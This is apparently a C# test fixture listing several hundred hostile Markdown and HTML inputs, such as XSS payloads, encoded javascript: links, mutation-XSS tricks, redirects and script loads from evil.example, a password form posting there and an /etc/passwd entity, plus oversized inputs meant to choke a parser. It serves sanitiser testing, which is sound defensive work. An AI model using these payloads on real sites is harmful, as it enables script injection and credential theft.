namespace Matchmaking.Web.Tests.Components;

/// <summary>Texts that were written to do harm, or that parsers have stumbled over. One a line; ⏎ stands for a line break, ⇥ for a tab,
/// ␍ for a lone carriage return, ␀ for NUL.</summary>
internal static class HostileMarkdown
{
    private const string Written = """"
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](java&#9;script:alert(1))
        [x](java&#x0A;script:alert(1))
        [x](java&Tab;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](&#x6A;avascript:alert(1))
        [x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
        [x](&#0000106avascript:alert(1))
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&#x3a;alert&lpar;1&rpar;)
        [x](<javascript:alert(1)>)
        [x](<java⇥script:alert(1)>)
        [x](< javascript:alert(1)>)
        [x](&#1;javascript:alert(1))
        [x](&#x1F;javascript:alert(1))
        [x](\javascript:alert(1))
        [x](java\script:alert(1))
        [x](javascript\:alert(1))
        [x](%6Aavascript:alert(1))
        [x](javascript%3Aalert(1))
        [x](javascript://example.org/%0Aalert(1))
        [x](javascript://example.org/?%0D%0Aalert(1))
        [x](javascript:alert(1) "title")
        [x](javascript:alert(1)//http://example.org)
        [x](vbscript:msgbox(1))
        [x](VBScript:msgbox(1))
        [x](livescript:alert(1))
        [x](mocha:alert(1))
        [x](data:text/html,<script>alert(1)</script>)
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
        [x](DATA:text/html,x)
        [x](data&colon;text/html,x)
        [x](file:///etc/passwd)
        [x](ftp://example.org/x)
        [x](blob:https://example.org/1)
        [x](filesystem:https://example.org/temporary/x)
        [x](view-source:https://example.org)
        [x](about:blank)
        [x](chrome://settings)
        [x](ms-word:ofe|u|https://example.org/x.docx)
        [x](intent://x#Intent;scheme=https;end)
        [x](feed:javascript:alert(1))
        [x](jar:https://example.org!/x)
        [x](wyciwyg://0/x)
        [x](x-javascript:alert(1))
        [x](javascript :alert(1))
        [x](javascript&nbsp;:alert(1))
        [x](&#xFEFF;javascript:alert(1))
        [x](&#x200B;javascript:alert(1))
        [x](&#x2028;javascript:alert(1))
        [x](&#x202E;javascript:alert(1))
        [x](javaſcript:alert(1))
        [x](ｊavascript:alert(1))
        [x](//evil.example)
        [x](\\evil.example)
        [x](/\evil.example)
        [x](\/\/evil.example)
        [x](///evil.example)
        [x](http:evil.example)
        [x](http:/evil.example)
        [x](http:\\evil.example)
        [x](http:///evil.example)
        [x](https://good.example@evil.example)
        [x](https://good.example:pass@evil.example/)
        [x](https://good.example\@evil.example)
        [x](https://evil.example%00.good.example)
        [x](https://)
        [x](https://:80)
        [x](https://?)
        [x](http://a"onmouseover="alert(1))
        [x](<http://a" onmouseover="alert(1)>)
        [x](http://a'onmouseover='alert(1))
        [x](http://a&quot;onmouseover=&quot;alert(1))
        [x](http://example.org/<script>alert(1)</script>)
        [x](http://example.org/`onclick`)
        [x](http://example.org "x\" onclick=\"alert(1)")
        [x](http://example.org 'x" onclick="alert(1)')
        [x](http://example.org (x" onclick="alert(1)))
        [x](mailto:a@example.org?bcc=b@example.org&body=x)
        [x](mailto:a@example.org%0D%0ABcc:b@example.org)
        [x](mailto:"a\r\nBcc: x@y"@example.org)
        [x](mailto:)
        [x](tel:*#06#)
        [x](tel:javascript:alert(1))
        [x](sms:+358401234567?body=x)
        [<script>alert(1)</script>](https://example.org)
        [<img src=x onerror=alert(1)>](https://example.org)
        [a [b](javascript:alert(1)) c](https://example.org)
        [![x](javascript:alert(1))](javascript:alert(2))
        [x]: javascript:alert(1)⏎⏎[x]
        [x][y]⏎⏎[y]: javascript:alert(1) "t"
        [x]⏎⏎[x]: <javascript:alert(1)>
        [X]⏎⏎[x]: JAVASCRIPT:alert(1)
        [x][]⏎⏎[x]: data:text/html,x
        ![x]⏎⏎[x]: javascript:alert(1)
        [^1]⏎⏎[^1]: javascript:alert(1) <script>
        *[HTML]: <script>alert(1)</script>⏎⏎HTML
        ![](https://tracker.example/x.png)
        ![x](javascript:alert(1))
        ![x](data:image/svg+xml,<svg onload=alert(1)>)
        ![x" onerror="alert(1)](https://example.org/x.png)
        ![<script>alert(1)</script>](x)
        ![x](x "t\" onload=\"alert(1)")
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <javascript:alert('1')>
        <vbscript:x>
        <data:text/html,x>
        <http://a"onmouseover="alert(1)>
        <https://good.example@evil.example>
        <a@example.org?bcc=b@example.org>
        <a+"onclick"@example.org>
        http://a"onmouseover="alert(1)
        http://example.org/<script>alert(1)</script>
        https://example.org/"><script>alert(1)</script>
        https://example.org/')</script><img/src=x>
        www.example.org"onclick="alert(1)
        mailto:a@example.org"onclick="alert(1)
        tel:123"onclick="alert(1)
        ftp://example.org/"onclick="alert(1)
        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <script⏎>alert(1)</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <<script>alert(1)//<</script>
        </script><script>alert(1)</script>
        <img src=x onerror=alert(1)>
        <img/src/onerror=alert(1)>
        <img src="x` `<script>alert(1)</script>"` `>
        <svg onload=alert(1)>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><script>alert(1)</script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mtext><mglyph><style><img src=x onerror=alert(1)></style>
        <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
        <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
        <math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <textarea></textarea><img src=x onerror=alert(1)>
        <title><a href="</title><img src=x onerror=alert(1)>">
        <xmp><p title="</xmp><img src=x onerror=alert(1)>">
        <noembed><p title="</noembed><img src=x onerror=alert(1)>">
        <noframes><p title="</noframes><img src=x onerror=alert(1)>">
        <plaintext><script>alert(1)
        <template><script>alert(1)</script></template>
        <select><option><script>alert(1)</script></select>
        <table><td><a href="javascript:alert(1)">x</table>
        <style>@import 'https://evil.example/x.css'</style>
        <style>*{background:url(javascript:alert(1))}</style>
        <p style="background:url(javascript:alert(1))">x</p>
        <div style="position:fixed;inset:0">x</div>
        <link rel=stylesheet href=https://evil.example/x.css>
        <meta http-equiv=refresh content="0;url=https://evil.example">
        <base href="https://evil.example/">
        <iframe src=javascript:alert(1)></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <object data="javascript:alert(1)"></object>
        <embed src="javascript:alert(1)">
        <form action="javascript:alert(1)"><button>x</button></form>
        <form action="https://evil.example"><input name=password></form>
        <button formaction=javascript:alert(1)>x</button>
        <input autofocus onfocus=alert(1)>
        <details open ontoggle=alert(1)><summary>x</summary></details>
        <video><source onerror=alert(1)></video>
        <audio src=x onerror=alert(1)>
        <body onload=alert(1)>
        <marquee onstart=alert(1)>x</marquee>
        <a href="javascript:alert(1)">x</a>
        <a href="https://example.org" target=_blank onclick=alert(1)>x</a>
        <a id=__proto__ name=body>x</a>
        <b class=ds-alert id=main>x</b>
        <dialog open>x</dialog>
        <bdo dir=rtl>x</bdo>
        <x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
        <!--><script>alert(1)</script>
        <!--><img src=x onerror=alert(1)>-->
        <!-- --!><script>alert(1)</script>
        <!-->-><script>alert(1)</script>
        <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
        <![CDATA[<script>alert(1)</script>]]>
        <?xml-stylesheet href="javascript:alert(1)"?>
        <?php echo 1 ?>
        <%= 1 %>
        </p><script>alert(1)</script>
        </div></main></body><script>alert(1)</script>
        <img src=x⏎onerror=alert(1)>
        <p⏎onclick=alert(1)>x
        <div>⏎⏎[x](javascript:alert(1))⏎⏎</div>
        <script>⏎⏎alert(1)⏎⏎</script>
        - <script>alert(1)</script>⏎  - <img src=x onerror=alert(1)>
        > <script>alert(1)</script>⏎lazy <img src=x onerror=alert(1)>
        `<script>alert(1)</script>`
        ``` <script>⏎alert(1)⏎```
        ```"onmouseover="alert(1)⏎x⏎```
        ```html onclick=alert(1)⏎<img src=x onerror=alert(1)>⏎```
        ~~~</code></pre><script>alert(1)</script>⏎x⏎~~~
            <script>alert(1)</script>
        ⇥<script>alert(1)</script>
        # <script>alert(1)</script>
        # x {#id onclick=alert(1)}
        x {onclick=alert(1)}
        [x](https://example.org){onclick=alert(1)}
        **x**{.ds-alert style="x"}
        x⏎===⏎<script>alert(1)</script>⏎---
        a | b⏎--|--⏎<script>alert(1)</script> | [x](javascript:alert(1))
        |a" onclick="alert(1)|⏎|:-:|⏎|x|
        $<script>alert(1)</script>$
        :::danger onclick=alert(1)⏎x⏎:::
        ==<script>== ++<img onerror=x>++ ~~<svg>~~ ^<a>^
        --- ⏎title: <script>⏎---⏎x
        {{constructor.constructor('alert(1)')()}}
        ${alert(1)}
        <%00script>alert(1)</script>
        <scr␀ipt>alert(1)</script>
        [x](java␀script:alert(1))
        [x](java␍script:alert(1))
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        \<script\>alert(1)\</script\>
        &NotAnEntity; &#0; &#xD800; &#x110000; &#99999999999;
        [x](https://example.org/&#x22;onclick=alert(1))
        [x](https://example.org/%22onclick=alert(1))
        [שלום ‮abc⁧](https://example.org)
        ‮abc ⁧שלום
        [x](https://example.org/‮gnp.exe)
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        ＜script＞alert(1)＜/script＞
        <a href=&#x6A;avascript:alert(1)>x
        <ſcript>alert(1)</ſcript>
        """";

    public static IEnumerable<string> All => Written.Split('\n', StringSplitOptions.RemoveEmptyEntries)
        .Select(l => l.TrimEnd('\r').Replace('⏎', '\n').Replace('⇥', '\t').Replace('␍', '\r').Replace('␀', '\0'));

    /// <summary>Short to write, and long for a careless parser.</summary>
    public static IEnumerable<(string Name, string Text)> Pathological
    {
        get
        {
            foreach (var part in new[]
            {
                "[", "]", "![", "[]", "[](", "[a](", "[a](b", "[a](<b", "[a][", "[[]", "![[]()", "[(", "[a", "(", ")",
                "*", "**", "*a", "*a ", "**a ", "*a **a ", "_a __a ", "a**b", "a*b_", "*a_ ", "_", "`", "`a", "``a`",
                "<", "<a", "<a ", "</", "<!--", "<!-- a", "<?", "<![CDATA[", "<!A ", "<http://", "<a@", "&", "&#", "&#x", "&amp",
                "\\", "\\\n", ">", "> ", "> a\n", ">\n", "- ", "-\n", "* ", "+ a\n", "1. ", "1) a\n", "#", "# ", "=\n", "a\n=", "-",
                "---\n", "|", "|a", "a|\n", "|-", "|-|\n", "a|b\n-|-\n", "~~~\n", "```\n", "    a\n", "\t", " ", "\n", "\r", "  \n",
                "http://", "http://a", "www.", "www.a.", "mailto:", "a@a.", "a@", "https://a.b/(", "[a]: b\n",
                "[a]: <b\n", "[a]:", "[a]: b 'c", "\"", "'", "\\[", "!", "{", ":", "x", "ä", "👩‍👩‍👧‍👦", "\u202E", "\u0301",
            })
            {
                var marks = Math.Max(1, part.Count("*_[]<>`|".Contains));
                var name = part.ReplaceLineEndings("⏎");
                yield return ($"{name} × as many as are read", Fill(part, Math.Min(19_900, 3_000 / marks * part.Length)));
                yield return ($"{name} × as many as fit", Fill(part));
            }

            yield return ("quotes within quotes", string.Concat(Enumerable.Range(1, 190).Select(n => new string('>', n) + "a\n")));
            yield return ("lists within lists", string.Concat(Enumerable.Range(0, 190).Select(n => new string(' ', n) + "- a\n")));
            foreach (var times in new[] { 40, 120, 500, 1_400, 3_000 })
            {
                yield return ($"{times} brackets and their ends", Times("[", times) + "a" + Times("]", times));
                yield return ($"{times} links and their ends", Times("[", times) + "a" + Times("](b)", times));
                yield return ($"{times} pictures within pictures", Times("![", times) + "a" + Times("](b)", times));
                yield return ($"{times} emphases and their ends", Times("*a ", times) + Times(" a*", times));
                yield return ($"{times} double emphases and their ends", Times("**a _b ", times / 3) + Times(" b_ a**", times / 3));
                yield return ($"{times} quotes in one line", Times("> ", times) + "a");
                yield return ($"{times} lists in one line", Times("- ", times) + "a");
            }
            yield return ("code marks of every length", string.Concat(Enumerable.Range(1, 190).Select(n => "e" + new string('`', n))));
            yield return ("one long address", "http://" + new string('a', 19_000));
            yield return ("one long address in brackets", "[a](http://" + Fill("(", 9_000) + Fill(")", 9_000) + ")");
            yield return ("an entity without end", "&#" + new string('1', 19_000) + ";");
            yield return ("two hundred thousand", new string('a', 200_000));
            yield return ("10 000 cells", "|a|a|a|a|\n|-|-|-|-|\n" + string.Concat(Enumerable.Repeat("|||||\n", 2_500)));
            yield return ("as many columns as fit", Fill("|a", 9_000) + "|\n" + Fill("|-", 9_000) + "|\n");
            yield return ("references to one another", string.Concat(Enumerable.Range(0, 500).Select(n => $"[{n}]: x{n}\n")) + Times("[1][2]", 400));
        }
    }

    private static string Fill(string part, int length = 19_900) => Times(part, length / part.Length);

    private static string Times(string part, int times) => string.Concat(Enumerable.Repeat(part, times));
}
